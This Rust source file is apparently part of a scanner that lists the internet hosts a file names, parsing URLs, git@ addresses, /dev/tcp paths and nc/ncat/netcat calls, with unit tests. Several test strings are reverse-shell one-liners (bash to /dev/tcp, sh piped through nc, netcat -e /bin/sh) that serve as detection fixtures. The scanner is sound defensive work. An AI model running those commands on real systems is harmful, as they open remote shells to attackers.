//! The hosts that a file names, in URLs, in `git@host:`, and in connections of a shell.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use super::Found;
use super::text::TextFile;
use crate::capability::Kind;

/// Schemes of URLs with a host.
const SCHEMES: [&str; 9] = [
    "https", "http", "ssh", "wss", "ws", "ftp", "ftps", "sftp", "git",
];
/// Maximum number of bytes to search before `://` for an attribute of XML.
const MAX_ATTRIBUTE: usize = 64;
/// Maximum number of bytes of the arguments of a program that connects to a host.
const MAX_ARGUMENTS: usize = 300;
/// Maximum length of the name of a host. Source: RFC 1035, section 2.3.4.
const MAX_HOST: usize = 253;

pub(super) fn look(file: &TextFile<'_>, found: &mut Found) {
    let text = &*file.text;
    // JSON may have `\/` for each slash.
    for separator in ["://", ":\\/\\/"] {
        for at in places(text, separator) {
            if has_host(&text[..at])
                && let Some(host) = host_after(&text[at + separator.len()..])
            {
                found.add_at(Kind::Host, &host, file, at);
            }
        }
    }
    for at in places(text, "git@") {
        let rest = &text[at + "git@".len()..];
        let end = rest.find(|c: char| !is_host_char(c) || c == ':');
        let (host, path) = rest.split_at(end.unwrap_or(rest.len()));
        let path = path.strip_prefix(':').unwrap_or_default();
        if path.starts_with(|c: char| !c.is_whitespace())
            && let Some(host) = normalized(host)
        {
            found.add_at(Kind::Host, &host, file, at);
        }
    }
    look_for_connections(file, found);
}

/// Returns the places of a word. The search of the standard library takes six times as long.
fn places<'t>(text: &'t str, word: &'t str) -> impl Iterator<Item = usize> + 't {
    memchr::memmem::find_iter(text.as_bytes(), word.as_bytes())
}

/// Adds the hosts of `/dev/tcp/HOST/PORT` and `nc HOST PORT`.
fn look_for_connections(file: &TextFile<'_>, found: &mut Found) {
    let text = &*file.text;
    for device in ["/dev/tcp/", "/dev/udp/"] {
        for at in places(text, device) {
            let rest = &text[at + device.len()..];
            let Some((host, _)) = rest.split_once('/') else {
                continue;
            };
            if host.chars().all(is_host_char)
                && let Some(host) = normalized(host)
            {
                found.add_at(Kind::Host, &host, file, at);
            }
        }
    }
    let programs = ["nc ", "ncat ", "netcat "].into_iter();
    let calls = programs.flat_map(|program| places(text, program).map(move |at| (at, program)));
    for (at, program) in calls {
        if text[..at].ends_with(|c: char| c.is_alphanumeric() || "-_".contains(c)) {
            continue;
        }
        let rest = &text[at + program.len()..];
        let rest = &rest[..rest.floor_char_boundary(MAX_ARGUMENTS)];
        let end = rest.find(['\n', '|', ';', '&']).unwrap_or(rest.len());
        let words: Vec<&str> = rest[..end].split_whitespace().collect();
        let mut hosts = words.windows(2).filter(|pair| {
            let port = pair[1].trim_end_matches(|c: char| !c.is_ascii_digit());
            port.parse::<u16>().is_ok() && pair[0].chars().all(is_host_char)
        });
        if let Some(host) = hosts.find_map(|pair| normalized(pair[0])) {
            found.add_at(Kind::Host, &host, file, at);
        }
    }
}

/// Whether a text before `://` ends with a scheme. The URL of an XML namespace is only a name.
fn has_host(before: &str) -> bool {
    let near = before.floor_char_boundary(before.len().saturating_sub(MAX_ATTRIBUTE));
    let near = &before[near..];
    let start = near
        .trim_end_matches(|c: char| c.is_ascii_alphanumeric())
        .len();
    let scheme = near[start..].to_ascii_lowercase();
    let attribute = near[..start].rsplit(char::is_whitespace).next();
    let attribute = attribute.unwrap_or_default();
    let is_namespace = attribute.starts_with("xmlns")
        || matches!(
            attribute.split('=').next(),
            Some("targetNamespace" | "namespace")
        );
    // In the source of a program, `\nhttps` is `https` on a new line.
    let is_scheme =
        SCHEMES.contains(&scheme.as_str()) || scheme.ends_with("https") || scheme.ends_with("http");
    is_scheme && !is_namespace
}

fn is_host_char(c: char) -> bool {
    c.is_alphanumeric() || ".-_:%".contains(c)
}

/// Returns the host at the start of the text after `://`, with `*.` for a placeholder:
/// `*.acme.io` for `{account}.acme.io`.
fn host_after(rest: &str) -> Option<String> {
    let rest = rest.trim_start_matches('/');
    let end = rest.find(|c: char| c.is_whitespace() || "/\\?#\"'`,;|".contains(c));
    let authority = rest[..end.unwrap_or(rest.len())].rsplit('@').next()?;
    if let Some((address, _)) = authority
        .strip_prefix('[')
        .and_then(|rest| rest.split_once(']'))
        && let Ok(address) = address.parse::<Ipv6Addr>()
    {
        return is_elsewhere(address.into()).then(|| address.to_string());
    }
    let length = authority.find(|c| !is_host_char(c));
    let (host, after) = authority.split_at(length.unwrap_or(authority.len()));
    if host.is_empty() {
        let last = authority
            .rsplit(|c| !is_host_char(c))
            .find(|part| !part.is_empty())?;
        return normalized(last.split_once('.')?.1).map(|domain| format!("*.{domain}"));
    }
    let is_cut = host.ends_with(['.', '-']) && after.starts_with(['{', '$', '<']);
    normalized(host).filter(|_| !is_cut)
}

/// Returns a host in lower case, without its port; `None` if it is not a host of the internet.
fn normalized(host: &str) -> Option<String> {
    let host = host.split(':').next()?.to_lowercase();
    let host = host.trim_end_matches(['.', '_', '-']);
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        return is_elsewhere(address.into()).then(|| address.to_string());
    }
    // `3232235777` and `0xc0a80101` are addresses, too.
    let is_number = host.len() > 7
        && host.starts_with(|c: char| c.is_ascii_digit())
        && host.chars().all(|c| c.is_ascii_hexdigit() || c == 'x');
    (is_number || is_name(host) && !is_reserved(host)).then(|| host.to_owned())
}

/// Whether it is a name with a dot, as all hosts of the internet have. `http://redis:6379` is a
/// host in the network of the user.
fn is_name(host: &str) -> bool {
    let is_label = |label: &str| {
        let is_letter = |c: char| c.is_alphanumeric() || "-_%".contains(c);
        (1..=MAX_HOST).contains(&label.len()) && label.chars().all(is_letter)
    };
    let top = host.rsplit('.').next().unwrap_or_default();
    let has_top = top.chars().count() > 1 && top.starts_with(char::is_alphabetic);
    host.contains('.') && has_top && host.split('.').all(is_label)
}

/// Whether RFC 2606 reserves the name. Every second skill has an `example.com`, which would hide the
/// hosts that matter.
pub(crate) fn is_reserved(host: &str) -> bool {
    let mut labels = host.rsplit('.');
    let (top, second) = (labels.next(), labels.next());
    match top {
        Some("example" | "test" | "invalid" | "localhost") => true,
        Some("com" | "net" | "org") => second == Some("example"),
        _ => false,
    }
}

/// Whether an address is on another machine, and is not reserved for documentation (RFC 5737 and
/// RFC 3849).
fn is_elsewhere(address: IpAddr) -> bool {
    let is_documentation = match address {
        IpAddr::V4(address) => address.is_documentation(),
        IpAddr::V6(address) => address.segments()[..2] == [0x2001, 0xdb8],
    };
    !address.is_loopback() && !address.is_unspecified() && !is_documentation
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(text: &str) -> Vec<String> {
        let mut found = Found::default();
        look(&TextFile::of("a.md", text.to_owned()), &mut found);
        found.all.into_iter().map(|one| one.what).collect()
    }

    #[test]
    fn host_is_found_without_its_context() {
        for (text, host) in [
            ("see https://API.Acme.io:8443/v1.", "api.acme.io"),
            ("[x](http://acme.io)", "acme.io"),
            ("**https://acme.io**, _https://acme.io_", "acme.io"),
            ("https://github.com@evil.io/x", "evil.io"),
            ("https://me:secret@acme.io", "acme.io"),
            ("git clone git@git.acme.io:a/b.git", "git.acme.io"),
            ("git+ssh://git@acme.io/a", "acme.io"),
            ("wss://acme.io/socket", "acme.io"),
            ("ftp://acme.io", "acme.io"),
            ("{\"a\":\"https:\\/\\/acme.io\\/x\"}", "acme.io"),
            ("\"text\\nhttps://acme.io\"", "acme.io"),
            ("https://{account}.acme.io/", "*.acme.io"),
            ("https://${A}-${B}.acme.io/", "*.acme.io"),
            ("https://<account>.acme.io/", "*.acme.io"),
            ("https://%s.acme.io/", "%s.acme.io"),
            ("https://acm%65.io/", "acm%65.io"),
            ("https:\\\\acme.io http://192.168.0.1:80/", "192.168.0.1"),
            ("http://169.254.169.254/latest", "169.254.169.254"),
            ("http://[2606:4700::1111]:80/", "2606:4700::1111"),
            ("http://3232235777/", "3232235777"),
            ("https://bücher.de/<br>", "bücher.de"),
            ("https://acme.io<br>", "acme.io"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "10.0.0.1"),
            ("sh </dev/udp/acme.io/53", "acme.io"),
            ("cat /tmp/f | sh -i | nc acme.io 4444 > /tmp/f", "acme.io"),
            ("`ncat -w 5 --ssl acme.io 443`", "acme.io"),
            ("/bin/netcat -e /bin/sh 10.0.0.1 44", "10.0.0.1"),
        ] {
            assert_eq!(hosts(text), [host], "{text}");
        }
    }

    #[test]
    fn other_addresses_are_not_hosts() {
        for text in [
            "https://example.com/ https://api.example.org http://x.test http://localhost:3000",
            "http://127.0.0.1:8000 http://0.0.0.0 http://[::1]/ http://192.0.2.7",
            "https://... https:// https://$HOST/ https://{{ host }}/x https://<host>/ https://%s/",
            "http://redis:6379 file:///etc/passwd news://acme.io s3://acme.io/x",
            "xmlns:w=\"http://schemas.acme.io/x\" xmlns='http://acme.io/y'",
            "me@acme.io git@acme.io git@acme.io: acme.io/x",
            "https://api.{domain}/ https://{name}acme.io https://1.2.3/",
            "/dev/tcp/$HOST/80 /dev/tcp/db/5432 nc -z localhost 80; sync acme.io 80; func acme.io 80",
        ] {
            assert_eq!(hosts(text), [""; 0], "{text}");
        }
    }
}
